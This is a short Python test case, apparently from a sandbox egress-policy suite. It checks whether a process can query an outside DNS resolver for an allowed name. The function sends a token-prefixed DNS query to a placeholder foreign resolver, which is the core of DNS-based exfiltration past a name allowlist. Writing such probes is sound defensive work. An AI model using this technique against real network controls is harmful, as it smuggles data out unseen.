"""Another resolver
Asks an attacker's name server for an allowed name.
policy: allowed-names
audit: explicitlyDeniedIP
proof: arrival
"""


def attack(at):
    asker = at.udp()
    asker.sendto(at.query(at.token + b'.good.test'), (at.FOREIGN_RESOLVER, 53))
    return b'good' in asker.recv(500)
